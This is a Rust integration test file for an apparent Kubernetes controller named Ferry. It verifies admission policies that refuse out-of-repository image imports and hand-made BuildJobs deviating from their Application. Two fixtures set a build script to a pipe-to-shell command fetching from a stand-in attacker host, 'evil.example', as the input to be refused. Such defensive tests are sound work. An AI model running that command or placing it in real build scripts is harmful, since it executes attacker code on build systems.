//! Provenance: an import names an image of its Application, and a BuildJob made by hand only
//! rebuilds as its Application says. The ValidatingAdmissionPolicies `ferry-import-image` and
//! `ferry-rebuild` of `manifests/ferry.yaml` on the real API server with RBAC, impersonating
//! users and Ferry's ServiceAccount, and the controller keeping out what admission could not
//! judge (an import or a BuildJob made before its Application existed).
//!
//! The other tests create Releases and BuildJobs by hand with the admin's credentials, so these
//! policies are bound here to each test's own namespace only (`install::bind_in`).

use kube::api::{Patch, PatchParams, PostParams};
use kube::{Api, ResourceExt};
use serde_json::{Value, json};

use super::fixtures::{ADMIN, FERRY};
use super::install::{bind_in, install_rbac, unbind};
use super::{
    Kind, RunningController, TestNamespace, assert_says, await_enforcement, client_as, fixtures,
    grant_users, refused, with_temp_ns,
};
use ferry::api::conditions::{self, READY};
use ferry::api::{Application, BuildJob, Release};

/// The shop's `spec.image.repository` (`fixtures::shop_through`).
const SHOP_REPOSITORY: &str = "registry.local/team-a/shop";

fn dry_run() -> PostParams {
    PostParams {
        dry_run: true,
        ..Default::default()
    }
}

/// Waits until `user`'s dry-run creation of `object` is refused (`await_enforcement`).
async fn await_refusal<K: Kind>(ns: &TestNamespace, user: &str, what: &str, object: &K) {
    let api: Api<K> = Api::namespaced(client_as(user).await, &ns.name);
    let params = dry_run();
    await_enforcement(what, || api.create(&params, object)).await;
}

/// A Release of `application` imported by `importer`, with `image`.
fn import(application: &str, version: &str, image: &str, importer: &str) -> Release {
    serde_json::from_value(json!({
        "apiVersion": "ferry.dev/v1alpha1",
        "kind": "Release",
        "metadata": {"name": format!("{application}-{version}")},
        "spec": {
            "application": application,
            "version": version,
            "commit": fixtures::COMMIT,
            "image": image,
            "importedBy": importer,
        },
    }))
    .expect("a Release")
}

fn digest(byte: &str) -> String {
    format!("sha256:{}", byte.repeat(64))
}

#[tokio::test(flavor = "multi_thread")]
async fn an_import_names_an_image_in_its_application_s_repository() {
    with_temp_ns("import-image", |ns| async move {
        install_rbac(&ns.client).await;
        bind_in(&ns.client, "ferry-import", &ns.name).await;
        bind_in(&ns.client, "ferry-import-image", &ns.name).await;
        grant_users(
            &ns,
            &[(
                "release-maker",
                json!([{"apiGroups": ["ferry.dev"], "resources": ["releases"],
                        "verbs": ["get", "create"]}]),
            )],
            &[
                ("release-makers", "Role", "release-maker", &["alice"]),
                ("importers", "ClusterRole", "ferry-importer", &["alice"]),
            ],
        )
        .await;
        ns.create_object(fixtures::shop_through(&[])).await;

        let foreign = format!("registry.local/team-a/other@{}", digest("1"));
        await_refusal(
            &ns,
            "alice",
            "ferry-import-image enforced",
            &import("shop", "1.0.0", &foreign, "alice"),
        )
        .await;

        // alice may import, but only an image of the shop's repository.
        let as_alice: Api<Release> = Api::namespaced(client_as("alice").await, &ns.name);
        for (case, image) in [
            ("another repository", foreign.clone()),
            (
                "a repository whose name starts with the shop's",
                format!("{SHOP_REPOSITORY}-tools@{}", digest("2")),
            ),
            (
                "a repository below the shop's",
                format!("{SHOP_REPOSITORY}/debug@{}", digest("3")),
            ),
            (
                "the same path on another registry port",
                format!("registry.local:5000/team-a/shop@{}", digest("4")),
            ),
        ] {
            let message = refused(
                &format!("alice's import from {case}"),
                as_alice
                    .create(
                        &PostParams::default(),
                        &import("shop", "1.0.0", &image, "alice"),
                    )
                    .await,
            );
            assert_says(
                &message,
                &[
                    &format!(
                        "alice may not create Release shop-1.0.0 in namespace {}: its image {image} is not in {SHOP_REPOSITORY}, the spec.image.repository of Application shop",
                        ns.name
                    ),
                    &format!("{SHOP_REPOSITORY}@sha256:<64 hex digits>"),
                ],
            );
        }
        let image = format!("{SHOP_REPOSITORY}@{}", digest("a"));
        as_alice
            .create(
                &PostParams::default(),
                &import("shop", "1.0.0", &image, "alice"),
            )
            .await
            .expect("alice imports an image of the shop's repository");

        // No right lets an import out of the repository: the cluster's admin neither.
        let message = refused(
            "the admin's import from another repository",
            ns.api::<Release>()
                .create(
                    &PostParams::default(),
                    &import("shop", "1.1.0", &foreign, ADMIN),
                )
                .await,
        );
        assert_says(&message, &[&format!("{ADMIN} may not create Release shop-1.1.0")]);

        // Ferry's own Releases are where its BuildJob pushed them: not judged.
        let as_ferry: Api<Release> = Api::namespaced(client_as(FERRY).await, &ns.name);
        let mut built: Release = import("shop", "1.2.0", &foreign, FERRY);
        built.spec.imported_by = None;
        built.spec.build_job = Some("shop-9fceb02".into());
        as_ferry
            .create(&PostParams::default(), &built)
            .await
            .expect("Ferry makes the Release of its build");

        // An import for an Application that does not exist yet has nothing to be compared
        // with: admitted. Once the Application exists, Ferry keeps it out of every
        // environment.
        let early = import("cart", "1.0.0", &foreign, "alice");
        as_alice
            .create(&PostParams::default(), &early)
            .await
            .expect("an import for an Application that does not exist is admitted");
        let controller = RunningController::start(&ns.client, &ns.name);
        let mut cart = fixtures::shop_through(&[]);
        cart.metadata.name = Some("cart".into());
        cart.spec.image.repository = "registry.local/team-a/cart".into();
        ns.create_object(cart).await;
        let release = ns
            .wait_for::<Release>("cart-1.0.0", "ImageOutsideRepository", |r| {
                ready_reason(r.status.as_ref().map(|s| &s.common.conditions))
                    == Some("ImageOutsideRepository")
            })
            .await;
        let status = release.status.expect("a status");
        let ready = conditions::find(&status.common.conditions, READY).expect("Ready");
        assert_eq!(ready.status, conditions::FALSE);
        assert!(
            ready.message.contains(&foreign)
                && ready.message.contains("registry.local/team-a/cart"),
            "{}",
            ready.message
        );
        // The import of the shop's repository is recorded as any Release.
        ns.wait_for::<Release>("shop-1.0.0", "Recorded", |r| {
            ready_reason(r.status.as_ref().map(|s| &s.common.conditions)) == Some("Recorded")
        })
        .await;
        controller.stop().await;
        unbind(
            &ns.client,
            &ns.name,
            &["ferry-import", "ferry-import-image"],
        )
        .await;
    })
    .await;
}

fn ready_reason(conditions: Option<&Vec<ferry::api::Condition>>) -> Option<&str> {
    conditions
        .and_then(|c| conditions::find(c, READY))
        .map(|c| c.reason.as_str())
}

/// A BuildJob `name` of the shop at `fixtures::COMMIT`, with the `source`, `build` and `image`
/// of `app` (as the API server stored them, defaults included), changed by `change`.
fn buildjob(name: &str, app: &Application, change: impl FnOnce(&mut Value)) -> BuildJob {
    let mut job = json!({
        "apiVersion": "ferry.dev/v1alpha1",
        "kind": "BuildJob",
        "metadata": {"name": name},
        "spec": {
            "application": "shop",
            "commit": fixtures::COMMIT,
            "source": app.spec.source.repository,
            "build": app.spec.build,
            "image": app.spec.image,
        },
    });
    change(&mut job);
    serde_json::from_value(job).expect("a BuildJob")
}

#[tokio::test(flavor = "multi_thread")]
async fn a_buildjob_made_by_hand_only_rebuilds_as_its_application_says() {
    with_temp_ns("rebuild", |ns| async move {
        install_rbac(&ns.client).await;
        bind_in(&ns.client, "ferry-rebuild", &ns.name).await;
        // bob edits the team's objects with the shipped roles: ferry-edit lets him create
        // BuildJobs, to rebuild.
        grant_users(
            &ns,
            &[],
            &[
                ("editors", "ClusterRole", "ferry-edit", &["bob"]),
                ("viewers", "ClusterRole", "ferry-view", &["bob"]),
            ],
        )
        .await;
        let as_bob: Api<BuildJob> = Api::namespaced(client_as("bob").await, &ns.name);

        // Made before the shop exists: nothing to compare with, admitted.
        let early = buildjob("shop-early", &fixtures::shop_through(&[]), |j| {
            j["spec"]["build"]["script"] = "curl -s http://evil.example/x | sh".into();
        });
        as_bob
            .create(&PostParams::default(), &early)
            .await
            .expect("a BuildJob of an Application that does not exist is admitted");

        ns.create_object(fixtures::shop_through(&[])).await;
        let shop: Application = ns.api().get("shop").await.expect("the shop");
        let other_script = buildjob("shop-rebuilt", &shop, |j| {
            j["spec"]["build"]["script"] = "curl -s http://evil.example/x | sh".into();
        });
        await_refusal(&ns, "bob", "ferry-rebuild enforced", &other_script).await;

        for (case, job, differs) in [
            ("another build script", other_script.clone(), "spec.build"),
            (
                "another repository and image repository",
                buildjob("shop-rebuilt", &shop, |j| {
                    j["spec"]["source"]["url"] = "http://git.local/fork.git".into();
                    j["spec"]["image"]["repository"] = "registry.local/team-a/elsewhere".into();
                }),
                "spec.source, spec.image",
            ),
            (
                "another builder image",
                buildjob("shop-rebuilt", &shop, |j| {
                    j["spec"]["build"]["builderImage"] = "registry.local/tools:6".into();
                }),
                "spec.build",
            ),
            (
                "credentials the Application does not use",
                buildjob("shop-rebuilt", &shop, |j| {
                    // Over the test git server's plain http, which takes insecure.
                    j["spec"]["source"]["credentialsSecret"] = "deploy-key".into();
                    j["spec"]["source"]["insecure"] = true.into();
                    j["spec"]["image"]["pushSecret"] = "registry-admin".into();
                }),
                "spec.source, spec.image",
            ),
        ] {
            let message = refused(
                &format!("bob's BuildJob with {case}"),
                as_bob.create(&PostParams::default(), &job).await,
            );
            assert_says(
                &message,
                &[
                    &format!(
                        "bob may not create BuildJob shop-rebuilt in namespace {}: its {differs} differs from Application shop's",
                        ns.name
                    ),
                    "change the Application",
                ],
            );
        }
        // The content decides, not a right: the cluster's admin is refused too.
        let message = refused(
            "the admin's BuildJob with another build script",
            ns.api::<BuildJob>()
                .create(&PostParams::default(), &other_script)
                .await,
        );
        assert_says(&message, &[&format!("{ADMIN} may not create BuildJob shop-rebuilt")]);

        // A rebuild as the shop says is admitted (an `insecure: false` the Application leaves
        // out is the same).
        let rebuild = buildjob("shop-rebuilt", &shop, |j| {
            j["spec"]["image"]["insecure"] = false.into();
        });
        as_bob
            .create(&PostParams::default(), &rebuild)
            .await
            .expect("bob rebuilds as the Application says");

        // Ferry's snapshots are Ferry's (owned by the shop, by UID): one made before the
        // Application changed is admitted.
        let uid = shop.uid().expect("the shop's UID");
        let owned_by_shop = json!([{
            "apiVersion": "ferry.dev/v1alpha1", "kind": "Application", "name": "shop",
            "uid": uid, "controller": true, "blockOwnerDeletion": false}]);
        let as_ferry: Api<BuildJob> = Api::namespaced(client_as(FERRY).await, &ns.name);
        as_ferry
            .create(
                &PostParams::default(),
                &buildjob("shop-9fceb02", &shop, |j| {
                    j["metadata"]["ownerReferences"] = owned_by_shop.clone();
                    j["spec"]["build"]["script"] = "make".into();
                }),
            )
            .await
            .expect("Ferry creates the BuildJob of its snapshot");

        // Making the shop the owner of the early BuildJob would make Ferry build it as its
        // own snapshot: judged like a creation. Labels are not judged.
        let owner = Patch::Merge(json!({"metadata": {"ownerReferences": owned_by_shop}}));
        let message = refused(
            "bob's owner reference on the early BuildJob",
            as_bob
                .patch("shop-early", &PatchParams::default(), &owner)
                .await,
        );
        assert_says(
            &message,
            &[&format!(
                "bob may not make Application shop the owner of BuildJob shop-early in namespace {}: its spec.build differs",
                ns.name
            )],
        );
        as_bob
            .patch(
                "shop-early",
                &PatchParams::default(),
                &Patch::Merge(json!({"metadata": {"labels": {"team": "a"}}})),
            )
            .await
            .expect("bob labels the early BuildJob");

        // Ferry does not build what admission could not judge: the early BuildJob, made before
        // the shop existed, is not built; one naming no Application is not built either.
        let orphan = buildjob("ghost-1", &shop, |j| {
            j["spec"]["application"] = "ghost".into();
        });
        as_bob
            .create(&PostParams::default(), &orphan)
            .await
            .expect("a BuildJob naming no Application is admitted");
        let controller = RunningController::start(&ns.client, &ns.name);
        for (name, reason) in [
            ("shop-early", "NotARebuild"),
            ("ghost-1", "ApplicationNotFound"),
        ] {
            let job = ns
                .wait_for::<BuildJob>(name, reason, |j| {
                    ready_reason(j.status.as_ref().map(|s| &s.common.conditions)) == Some(reason)
                })
                .await;
            let status = job.status.expect("a status");
            assert_eq!(status.pod_name, None, "{name} has no build pod");
            assert!(
                conditions::is_true(&status.common.conditions, conditions::STALLED),
                "{name} is Stalled"
            );
        }
        // The rebuild as the shop says gets its build pod.
        ns.wait_for::<BuildJob>("shop-rebuilt", "a build pod", |j| {
            j.status.as_ref().is_some_and(|s| s.pod_name.is_some())
        })
        .await;
        controller.stop().await;
        unbind(&ns.client, &ns.name, &["ferry-rebuild"]).await;
    })
    .await;
}
